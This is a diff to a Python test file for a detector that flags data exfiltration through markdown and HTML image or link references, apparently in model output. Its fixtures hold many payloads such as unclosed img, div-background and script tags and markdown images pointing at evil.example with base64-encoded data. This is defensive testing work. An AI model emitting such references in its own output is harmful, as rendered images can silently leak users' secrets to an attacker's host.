@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from vallum.detectors.base import DetectorSetup
-from vallum.detectors.exfiltration import IMAGE_SCORE, ExfiltrationDetector, host_allowed
+from vallum.detectors.exfiltration import IMAGE_SCORE, ExfiltrationDetector, host_allowed, inert
 from vallum.model import Stage
 
 SETUP = DetectorSetup(allowed_hosts=("docs.acme.com", "*.cdn.acme.com"))
+DETECTOR = ExfiltrationDetector(setup=SETUP)
 DATA = "c2Vzc2lvbi10b2tlbj1hYmMxMjM0NTY3ODk="
 
 
@@ -158,3 +161,86 @@ def test_what_a_renderer_would_not_fetch_elsewhere_is_not_reported(payload: str)
 def test_a_plain_link_is_a_link_not_an_image() -> None:
     """A link needs a click: it scores as a link, even in HTML."""
     assert [("exfiltration.link", 0.7)] == found(f'<a href="https://evil.example/?q={DATA}">x</a>')
+
+
+_MARKUP = [
+    "<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0",
+    "<img src=https://evil.example/p?q=aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh ",
+    "<script src=//evil.example/x.js",
+    "<!-- ",
+    "<?",
+    "<!X ",
+    "<![CDATA[",
+    "<pre ",
+    "</div ",
+    "<a href=https://evil.example/q?d=0123456789abcdef ",
+    "![x",
+    "[y",
+    "]",
+    "(https://evil.example/p?q=c2VjcmV0ZGF0YWhlcmU=)",
+    ": https://evil.example/r",
+    "`",
+    "```",
+    "    ",
+    "- ",
+    "1. ",
+    "2) ",
+    "* ",
+    "+ ",
+    "\t",
+    "\n",
+    "\r",
+    "\r\n",
+    "\n\n",
+    " a < b ",
+    "text",
+    ">",
+    "> ",
+    "&lt;",
+    "&#60;img src=https://evil.example/x&#62;",
+]
+
+
+_PREFIXES = ["", "", "text ", "x", "- ", "1. ", "2) ", "* ", "+ ", "  ", "\t", "    "]
+_ENDINGS = ["", "", " ", "\n", "\r", "\r\n", "\n\n", "\r\r"]
+_LINES = st.tuples(
+    st.sampled_from(_PREFIXES), st.lists(st.sampled_from(_MARKUP), max_size=4).map("".join)
+).map("".join)
+
+
+@settings(max_examples=500, deadline=None)
+@given(
+    st.lists(st.tuples(_LINES, st.sampled_from(_ENDINGS)).map("".join), max_size=8),
+    st.sampled_from(["", "\n\nok", "\rok\r", "\n- item"]),
+)
+def test_inert_texts_render_nothing_fetched(lines: list[str], tail: str) -> None:
+    """The pre-pass that skips the parsers (`inert`) never hides a reference: on texts made of
+    markup that opens and never closes, HTML block starts after list markers, CR line ends and
+    escaped brackets, a text it calls inert renders to no reference when fully parsed, and
+    `detect` finds what the full parse finds."""
+    text = "".join(lines) + tail
+    full = sorted(
+        (DETECTOR._check(ref) for ref in DETECTOR._references(text)),
+        key=lambda f: (f.start, f.end),
+    )
+    if inert(text):
+        assert [] == full
+    assert full == DETECTOR.detect(text, Stage.OUTPUT)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "- <div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\nok",
+        "x\r<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\r\rok",
+        "1. <div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\ndone",
+        "text \r<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\nok",
+    ],
+)
+def test_html_blocks_without_a_closing_bracket_are_still_read(payload: str) -> None:
+    """Adaptive cases: a raw HTML block the input never closes (the renderer's next tag does),
+    after a list marker or a CR line end, is not skipped by the pre-pass, and is found."""
+    assert not inert(payload)
+    assert ["exfiltration.markdown_image"] == [
+        f.type for f in DETECTOR.detect(payload, Stage.OUTPUT)
+    ]
